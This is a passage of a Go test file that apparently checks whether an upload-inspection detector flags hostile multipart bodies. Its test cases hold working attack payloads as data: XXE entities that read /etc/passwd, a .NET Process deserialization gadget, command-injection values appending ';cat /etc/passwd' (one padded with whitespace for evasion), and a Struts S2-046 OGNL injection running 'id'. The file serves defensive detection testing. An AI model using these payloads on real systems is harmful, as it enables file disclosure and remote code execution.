		{part("a.svg", "image/svg+xml", utf16le("\ufeff"+`<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg><text>&x;</text></svg>`)), "xxe-external-entity"},
		{part("avatar.png", "image/png", `<svg xmlns="http://www.w3.org/2000/svg"><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><text>&x;</text></svg>`), "xxe-external-entity"},
		{part("data", "application/x-json", `{"$type":"System.Diagnostics.Process, System"}`), "deserialization-gadget"},
		// A field padded past the value bound, the payload at its end.
		{strings.Replace(part("a.txt", "text/plain", "x"), "--U--", "--U\r\nContent-Disposition: form-data; name=\"host\"\r\n\r\n127.0.0.1"+strings.Repeat(" ", 20000)+";cat /etc/passwd\r\n--U--", 1), "cmdi"},
		// Struts S2-046: OGNL in a file name whose NUL makes strict
		// multipart parsers refuse the part header; a field after it.
		{part("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}\x00b", "text/plain", "x"), "java-injection"},
		{strings.Replace(part("a\x00.txt", "text/plain", "x"), "--U--", "--U\r\nContent-Disposition: form-data; name=\"host\"\r\n\r\n127.0.0.1;cat /etc/passwd\r\n--U--", 1), "cmdi"},
		{part("logo.svg", "image/svg+xml", `<?xml version="1.0" encoding="UTF-8"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><title>Logo</title><path d="M12 2L2 7l10 5 10-5-10-5z" fill="#333"/></svg>`), ""},
	} {
		got := postRules(ds, "/api/v1/upload", "multipart/form-data; boundary=U", c.body)
		if c.want == "" && len(got) > 0 || c.want != "" && !slices.Contains(got, c.want) {
			t.Errorf("%.50s…: %v, want %q", c.body[60:], got, c.want)
		}
	}
}

// postRules POSTs body, of content type ct, to path, as the decoders take
// it apart, and returns the rules the detectors ds raise on it.
func postRules(ds []detect.Detector, path, ct, body string) []string {
	x := exchange()
	x.Request.Method, x.Request.Path, x.Request.URI = "POST", path, path
	x.Request.Headers = append(x.Request.Headers, decoders.Header{Name: "content-type", Value: ct})
	x.Request.Body = []byte(body)
	decoders.ExtractParams(x, nil)
	var got []string
	for _, a := range inspectAll(ds, x) {
		got = append(got, a.RuleId)
	}
	return got
}
